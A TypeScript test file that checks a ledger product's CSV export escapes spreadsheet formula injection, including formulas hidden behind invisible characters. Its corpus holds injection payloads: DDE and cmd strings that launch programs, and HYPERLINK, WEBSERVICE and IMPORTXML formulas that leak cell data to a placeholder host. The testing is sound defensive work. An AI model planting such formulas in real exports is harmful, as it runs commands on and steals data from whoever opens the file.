import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvLine } from '../../../src/ledgers/csv-write.ts'
import { errorLines, ERRORS_HEAD } from '../../../src/ledgers/errors-csv.ts'
import { sampleWarnings } from '../../../src/demo/sample-warnings.ts'
import { HEADER, read, ROW } from '../../ledgers/support.ts'

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\t=',
  '\r\n=',
  ' =',
  ' =',
  '\uFEFF=',
  '\u200b=',
  '\u202e=',
  '\u2060+',
  '\u00ad@',
  '\u00a0-',
]
const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://elsewhere.example?leak="&A1,"点我")',
  'WEBSERVICE("http://elsewhere.example/"&A2)',
  'IMPORTXML(CONCAT("http://elsewhere.example/?", A1), "//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)*cmd|" /C notepad"!A1',
  '"\r\n=1+1',
]
const CORPUS = STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula))

/** What a spreadsheet would calculate: told apart from the product's own rule, character by character. */
function isFormula(cell: string): boolean {
  const seen =
    Array.from(cell).find((c) => !/\s/.test(c) && !'\uFEFF\u200b\u202e\u2060\u00ad'.includes(c)) ?? ''
  return '=+-@=+-@'.includes(seen) && seen !== '' ? true : /^[\t\r\n]/.test(cell)
}

const cellsOf = (csv: string) =>
  parse(csv, { bom: true, record_delimiter: '\r\n', relax_column_count: true }) as string[][]

it('0 formulas survive in a cell, and the text stays readable', () => {
  for (const cell of CORPUS) {
    const [line = []] = cellsOf(csvLine(['前', cell, 7]))
    expect(line).toEqual(['前', `'${cell}`, '7'])
    expect(isFormula(line[1] ?? '')).toBe(false)
  }
})

it('a cell cannot end its line or its column to begin a formula in the next', () => {
  for (const cell of ['x",=1+1', 'x"\r\n=1+1', 'x\n=1+1', '",@x', 'a,b\r\n-1'])
    expect(cellsOf(csvLine([cell, 'nach']))).toEqual([[cell, 'nach']])
})

describe('the list of errors', () => {
  it('of a file full of formulas has none', async () => {
    const columns = ROW.split(',').length
    const rows = CORPUS.flatMap((cell) =>
      Array.from({ length: columns }, (_v, at) =>
        ROW.split(',')
          .map((own, i) => (i === at ? `"${cell.replaceAll('"', '""')}"` : own))
          .join(','),
      ),
    )
    const { errors } = await read(`${HEADER}\n${rows.join('\n')}\n`)
    expect(errors.length).toBeGreaterThan(CORPUS.length)
    const cells = cellsOf(ERRORS_HEAD + errorLines(errors)).flat()
    expect(cells.filter(isFormula)).toEqual([])
  })

  it('with formulas for columns and messages has none', () => {
    const errors = CORPUS.map((text) => ({ row: 1, column: text, rule: text, message: text }))
    const cells = cellsOf(ERRORS_HEAD + errorLines(errors)).flat()
    expect(cells.length).toBeGreaterThan(3 * CORPUS.length)
    expect(cells.filter(isFormula)).toEqual([])
  })
})

it('the sample export has none', () => {
  const options = { rows: 500, seed: 7, from: '2026-01-01', to: '2026-06-30', towns: ['毛坝镇'] } as const
  const cells = cellsOf([...sampleWarnings(options)].join('')).flat()
  expect(cells.length).toBeGreaterThan(500)
  expect(cells.filter(isFormula)).toEqual([])
})
